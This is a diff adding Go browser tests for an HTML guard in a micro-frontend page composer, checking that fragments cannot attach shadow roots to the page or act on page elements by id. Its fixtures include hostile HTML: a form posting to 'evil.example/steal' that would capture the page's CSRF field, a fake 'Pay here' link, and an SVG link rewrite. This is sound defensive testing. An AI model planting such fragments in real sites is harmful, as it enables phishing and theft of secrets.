@@ -1,0 +1,171 @@
+package main
+
+import (
+	"fmt"
+	"net/http"
+	"net/http/httptest"
+	"path/filepath"
+	"testing"
+
+	"github.com/chromedp/chromedp"
+)
+
+// Browser tests of what the HTML guard (package htmlguard) keeps a
+// fragment from doing to the page around it, where only a browser can
+// tell: Go's parser, the guard's oracle, implements neither declarative
+// shadow roots nor the behaviour of id references.
+
+// A fragment cannot take over the page with a declarative shadow root: a
+// <template shadowrootmode> at its top level would attach a shadow root to
+// the slot's parent, the page's <body> or <main>, and the page's own
+// content would no longer be rendered (issue 25, item 1). A shadow root
+// on the fragment's own element (Podium's useShadowDOM) still attaches.
+func TestBrowserFragmentsCannotAttachShadowRootsToThePage(t *testing.T) {
+	frag := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Type", "text/html")
+		switch r.URL.Path {
+		case "/header": // the outside attack's fragment
+			fmt.Fprint(w, `<header id="frag-header">Shop</header><template shadowrootmode="open"><h1 id="fake">Your basket</h1><a href="https://evil.example/pay">Pay here</a></template>`)
+		case "/closed": // every attribute of the family, after the fragment's own elements closed
+			fmt.Fprint(w, `<div><span>x</span></div><template shadowrootmode="closed" shadowrootdelegatesfocus shadowrootclonable shadowrootserializable><p>fake</p></template>`)
+		case "/apodlet": // the same in an async slot, with a top-level template of its own
+			fmt.Fprint(w, `<my-podlet id="apodlet"><template shadowrootmode="open"><p id="ainside">async podlet</p></template></my-podlet><template shadowrootmode="open"><p>fake</p></template>`)
+		case "/podlet": // Podium's useShadowDOM: the fragment's own custom element
+			fmt.Fprint(w, `<my-podlet id="podlet"><template shadowrootmode="open"><p id="inside">podlet content</p><slot></slot></template><span id="light">light</span></my-podlet>`)
+		}
+	}))
+	defer frag.Close()
+	dir := t.TempDir()
+	writeFile(t, filepath.Join(dir, "routes.json"), `{"/": "p.html"}`)
+	writeFile(t, filepath.Join(dir, "p.html"), `<!doctype html><html><head><meta charset="utf-8"><title>t</title><link rel="icon" href="data:,"></head><body><micro-frontend id="header" timeout="10s"/>
+<p id="body-content">the page's body content</p>
+<main id="main"><micro-frontend id="closed" timeout="10s"/><p id="main-content">the page's main content</p>
+<div id="podslot"><micro-frontend id="podlet" timeout="10s"/></div>
+<div id="apodslot"><micro-frontend id="apodlet" timeout="10s" async/></div>
+</main></body></html>`)
+	regFile := filepath.Join(t.TempDir(), "registry.json")
+	writeFile(t, regFile, fmt.Sprintf(`{"header": %q, "closed": %q, "podlet": %q, "apodlet": %q}`, frag.URL+"/header", frag.URL+"/closed", frag.URL+"/podlet", frag.URL+"/apodlet"))
+	inst := start(t, map[string]string{"COMPOSER_TEMPLATES": dir, "COMPOSER_REGISTRY": regFile, "COMPOSER_CSP": demoCSP, "COMPOSER_CACHE_BYTES": "0"})
+	b := newBrowser(t, 800, 600)
+	b.open(inst.base + "/")
+	b.do(b.until(`document.readyState === "complete"`))
+	got := eval[string](b, `(() => {
+		const q = s => document.querySelector(s);
+		const shown = e => !!e && e.getClientRects().length > 0;
+		const r = [];
+		// chrome.dom.openOrClosedShadowRoot is not there: a closed root
+		// shows in what is rendered.
+		if (document.body.shadowRoot) r.push("the page's <body> has a shadow root");
+		if (q("#main").shadowRoot) r.push("the page's <main> has a shadow root");
+		for (const id of ["body-content", "main-content", "frag-header", "apodslot"]) {
+			if (!shown(document.getElementById(id))) r.push("#" + id + " is not rendered");
+		}
+		const p = q("#podlet");
+		if (!p || !p.shadowRoot) r.push("the podlet's own element has no shadow root");
+		else {
+			const inside = p.shadowRoot.querySelector("#inside");
+			if (!shown(inside) || inside.textContent !== "podlet content") r.push("the podlet's shadow root is not rendered");
+			if (!shown(q("#light"))) r.push("the podlet's slotted content is not rendered");
+		}
+		if (q("#podlet > template")) r.push("the podlet's template is still a template");
+		// An async fragment is parsed in the composer's <template> and
+		// moved into place with its shadow roots.
+		const ap = q("#apodslot > #apodlet");
+		if (!ap || !ap.shadowRoot || !shown(ap.shadowRoot.querySelector("#ainside"))) r.push("the async podlet's shadow root is not rendered");
+		if (q("#apodslot").shadowRoot) r.push("the async slot's element has a shadow root");
+		return r.join("; ");
+	})()`)
+	if got != "" {
+		t.Error(got)
+	}
+	if p := b.seen(); len(p) > 0 {
+		t.Errorf("problems under the strict CSP:\n%v", p)
+	}
+}
+
+// A fragment's element cannot act on the page's elements by id: a
+// fragment's buttons cannot open the page's popover or modal dialog, its
+// label cannot tick the page's checkbox, its SVG <set> cannot change the
+// page's SVG link, and its <form id="checkout">,
+// placed before the page's own form of that id, does not capture the
+// page's <input form="checkout">: the page's ids are reserved (issue 25,
+// item 5). A reference from one fragment to another fragment's id still
+// works.
+func TestBrowserFragmentsCannotActOnPageElementsByID(t *testing.T) {
+	frag := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Type", "text/html")
+		switch r.URL.Path {
+		case "/hostile":
+			fmt.Fprint(w, `<form id="checkout" action="https://evil.example/steal" method="post"></form>`+
+				`<button id="h-pop" popovertarget="page-popover">open</button>`+
+				`<button id="h-cmd" commandfor="page-dialog" command="show-modal">dialog</button>`+
+				`<label id="h-label" for="terms">tick</label>`+
+				`<button id="h-other" popovertarget="other-popover">the other fragment's popover</button>`+
+				`<svg width="1" height="1"><set href="#logo-link" attributeName="href" to="https://evil.example/"/></svg>`)
+		case "/other":
+			fmt.Fprint(w, `<div id="other-popover" popover>the other fragment's popover</div>`)
+		}
+	}))
+	defer frag.Close()
+	dir := t.TempDir()
+	writeFile(t, filepath.Join(dir, "routes.json"), `{"/": "p.html"}`)
+	writeFile(t, filepath.Join(dir, "p.html"), `<!doctype html><html><head><meta charset="utf-8"><title>t</title><link rel="icon" href="data:,"></head><body><main>
+<div id="hslot"><micro-frontend id="hostile" timeout="10s"/></div>
+<div id="oslot"><micro-frontend id="other" timeout="10s"/></div>
+<form id="checkout" action="/submit" method="post"><button>Pay</button></form>
+<input form="checkout" name="csrf" value="secret" id="csrf">
+<input type="checkbox" id="terms">
+<div id="page-popover" popover>the page's popover</div>
+<dialog id="page-dialog">the page's dialog</dialog>
+<svg width="100" height="20"><a id="logo-link" href="/home"><text x="0" y="15">home</text></a></svg>
+</main></body></html>`)
+	regFile := filepath.Join(t.TempDir(), "registry.json")
+	writeFile(t, regFile, fmt.Sprintf(`{"hostile": %q, "other": %q}`, frag.URL+"/hostile", frag.URL+"/other"))
+	inst := start(t, map[string]string{"COMPOSER_TEMPLATES": dir, "COMPOSER_REGISTRY": regFile, "COMPOSER_CSP": demoCSP, "COMPOSER_CACHE_BYTES": "0"})
+	b := newBrowser(t, 800, 600)
+	b.open(inst.base + "/")
+	b.do(b.until(`document.readyState === "complete"`))
+	if !eval[bool](b, `!!document.querySelector("#hslot #h-other") && !!document.querySelector("#oslot #other-popover")`) {
+		t.Fatal("the fragments are not in the page")
+	}
+	// The buttons and the label are clicked as a visitor would, one at a
+	// time, each popover closed before the next click.
+	click := func(sel string) {
+		t.Helper()
+		b.do(chromedp.Click(chromedp.CSS(sel)))
+	}
+	closePopovers := `document.querySelectorAll(":popover-open").forEach(p => p.hidePopover())`
+	var got []string
+	click("#h-pop")
+	if eval[bool](b, `document.getElementById("page-popover").matches(":popover-open")`) {
+		got = append(got, "the fragment's popovertarget opened the page's popover")
+	}
+	eval[any](b, closePopovers)
+	click("#h-label")
+	if eval[bool](b, `document.getElementById("terms").checked`) {
+		got = append(got, "the fragment's label ticked the page's checkbox")
+	}
+	if form := eval[string](b, `(() => { const f = document.getElementById("csrf").form; return f ? f.action : "none" })()`); form != inst.base+"/submit" {
+		got = append(got, "the page's <input form=checkout> belongs to the form of action "+form)
+	}
+	// An SVG animation element reaches its target by href="#id": <set>
+	// would change the page's SVG link.
+	if href := eval[string](b, `(() => { const a = document.getElementById("logo-link"); return a ? a.href.animVal : "gone" })()`); href != "/home" {
+		got = append(got, "the fragment's <set> made the page's SVG link's href "+href)
+	}
+	click("#h-other")
+	if !eval[bool](b, `document.getElementById("other-popover").matches(":popover-open")`) {
+		got = append(got, "a fragment's popovertarget no longer opens another fragment's popover")
+	}
+	eval[any](b, closePopovers)
+	click("#h-cmd") // last: a modal dialog would take the clicks after it
+	if eval[bool](b, `document.getElementById("page-dialog").open`) {
+		got = append(got, "the fragment's commandfor opened the page's modal dialog")
+	}
+	for _, g := range got {
+		t.Error(g)
+	}
+	if p := b.seen(); len(p) > 0 {
+		t.Errorf("problems under the strict CSP:\n%v", p)
+	}
+}
